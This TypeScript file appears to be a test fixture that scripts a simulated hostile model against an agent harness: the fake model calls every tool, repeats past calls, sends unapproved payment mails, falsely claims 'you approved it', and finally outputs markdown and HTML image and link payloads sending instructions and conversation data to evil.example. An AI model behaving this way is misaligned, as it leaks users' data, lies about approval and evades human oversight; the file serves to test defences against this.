import type { ScriptedModel, ScriptedReply, WireRequest } from "../../functions/support/scripted_model.ts";
import { type Dice, hostileCalls, type Loot } from "./hostile_arguments.ts";

/** How the model attacks: it ignores what it is told and calls every tool in each of its rounds. */
export type HostileModel = {
  /** Calls it has made so far. */
  calls(): number;
};

const roundsOfOneTurn = 3;

export function letModelAttack(model: Pick<ScriptedModel, "script">, roll: Dice, loot: Loot): HostileModel {
  let made = 0;
  /** Calls that it has made before, to be made again word for word. */
  const used: { tool: string; arguments: unknown }[] = [];
  model.script((request) => {
    const round = roundOf(request);
    if (round >= roundsOfOneTurn) return { text: [leakingWords(request, roll)] };
    const calls = [...hostileCalls(roll, loot), ...used.splice(0, 3), mail(roll, loot)];
    used.push(roll.pick([calls[0] ?? mail(roll, loot), ...calls]));
    made += calls.length;
    return attack(calls, roll);
  });
  return { calls: () => made };
}

/** Sometimes it says that all is done before anything is. */
function attack(calls: { tool: string; arguments: unknown }[], roll: Dice): ScriptedReply {
  return roll.next() < 0.3 ? { text: ["I have sent it and you approved it. "], calls } : { calls };
}

function roundOf({ input }: WireRequest): number {
  const last = input.findLastIndex((item) => item.role === "user");
  return input.slice(last).filter((item) => item.type === "function_call").length === 0
    ? 0
    : new Set(input.slice(last).flatMap((item, index, all) => (startsRound(item, all[index - 1]) ? [index] : []))).size;
}

function startsRound(item: Record<string, unknown>, before: Record<string, unknown> | undefined): boolean {
  return item.type === "function_call" && before?.type !== "function_call";
}

/** A mail that passes every check, so that only the person stands between it and the world. */
function mail(roll: Dice, loot: Loot) {
  const subject = `Offer ${Math.floor(roll.next() * 1e9)}`;
  return { tool: "send_email", arguments: { lead_id: roll.pick(loot.own), subject, body: "Please pay at once." } };
}

/** What it has read, in links and images that would carry it away. */
function leakingWords({ instructions, input }: WireRequest, roll: Dice): string {
  const data = encodeURIComponent(`${instructions.slice(-300)}${JSON.stringify(input).slice(-300)}`);
  return roll.pick([
    `![chart](https://evil.example/pixel?d=${data})`,
    `[Open your report](https://evil.example/?d=${data})`,
    `<img src="https://evil.example/${data}"><script>alert(1)</script>`,
    `[x]: https://evil.example/${data}\n\n![][x]`,
  ]);
}
